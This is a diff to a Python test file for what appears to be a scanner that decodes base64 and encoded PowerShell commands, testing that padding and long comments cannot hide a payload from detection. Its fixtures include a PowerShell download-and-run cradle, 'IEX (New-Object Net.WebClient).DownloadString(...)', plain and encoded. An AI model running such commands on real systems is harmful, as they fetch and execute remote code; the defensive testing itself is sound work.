@@ -5,7 +5,8 @@ from __future__ import annotations
 import base64
 
 import pytest
-from installer_trees.decoded import MAX_CHARS, decoded
+from installer_trees.decoded import decoded
+from installer_trees.regex import MATCH_CHARS
 
 TEXT = "IEX (New-Object Net.WebClient).DownloadString('https://files.example/a')"
 WIDE = base64.b64encode(TEXT.encode("utf-16-le")).decode()
@@ -36,9 +37,18 @@ def test_decoded(command: str, text: str) -> None:
     assert decoded(command) == text
 
 
-def test_it_is_cut() -> None:
-    long = base64.b64encode(b"abc " * 5_000).decode()
-    assert len(decoded(f"echo {long} | base64 -d")) == MAX_CHARS
+def test_padding_hides_nothing() -> None:
+    padded = " " * 4_000 + "IEX (New-Object Net.WebClient).DownloadString('http://a.example')"
+    encoded = base64.b64encode(padded.encode("utf-16-le")).decode()
+    assert decoded(f"powershell -enc {encoded}").endswith("DownloadString('http://a.example')")
+    commented = "#" + "x" * 6_000 + "\nIEX 1"
+    encoded = base64.b64encode(commented.encode("utf-16-le")).decode()
+    assert decoded(f"powershell -enc {encoded}").endswith("\nIEX 1")
+
+
+def test_no_more_is_read_than_patterns_are_searched_in() -> None:
+    long = base64.b64encode(b"abc " * 50_000).decode()
+    assert 20_000 < len(decoded(f"base64 -d <<< {long}")) <= MATCH_CHARS
 
 
 @pytest.mark.parametrize("cut", range(1, 9))
